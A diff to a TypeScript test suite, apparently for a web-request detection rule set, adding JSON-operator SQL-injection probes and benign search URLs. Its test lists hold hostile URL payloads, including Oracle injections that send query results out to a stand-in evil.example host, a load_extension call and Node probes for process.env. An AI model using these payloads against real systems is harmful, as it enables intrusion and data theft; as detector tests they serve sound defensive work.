@@ -420,6 +420,9 @@ const ATTACKS: ReadonlyArray<readonly [string, string]> = [
   ['sqli-function', "/item?id=1%20and%20dbms_ldap.init((select%20user%20from%20dual)||'.evil.example',80)%20is%20not%20null"],
   ['sqli-function', "/item?id=1%20and%20httpuritype('http://evil.example/').getclob()%20is%20not%20null"],
   ['sqli-function', "/item?id=1%20and%20load_extension('/tmp/x.so')"],
+  ['sqli-json-operator', "/item?id=1%20or%20'{\"a\":1}'::jsonb%20=%20'{\"a\":1}'::jsonb"],
+  ['sqli-json-operator', "/item?id=1%20or%20'{}'='{}'"],
+  ['sqli-json-operator', "/item?id=1%20or%20'{\"a\":1}'%20is%20json"],
   // JavaScript's escapes of letters: decoded for the rules of names, and a sign of their own as logged.
   ['generic-node-injection', '/api?x=%5Cu0070rocess.env'],
   ['generic-node-injection', '/api?x=pro%5Cu{63}ess.mainModule'],
@@ -679,6 +682,8 @@ const BENIGN: readonly string[] = [
   '/search?q=load_extension%20sqlite',
   '/search?q=caf%5Cu00e9',
   '/search?q=(phpinfo)%20(tutorial)',
+  '/search?q=what%20is%20json',
+  "/api/items?q='{\"size\":\"m\"}'",
 ];
 
 describe('rule families', () => {
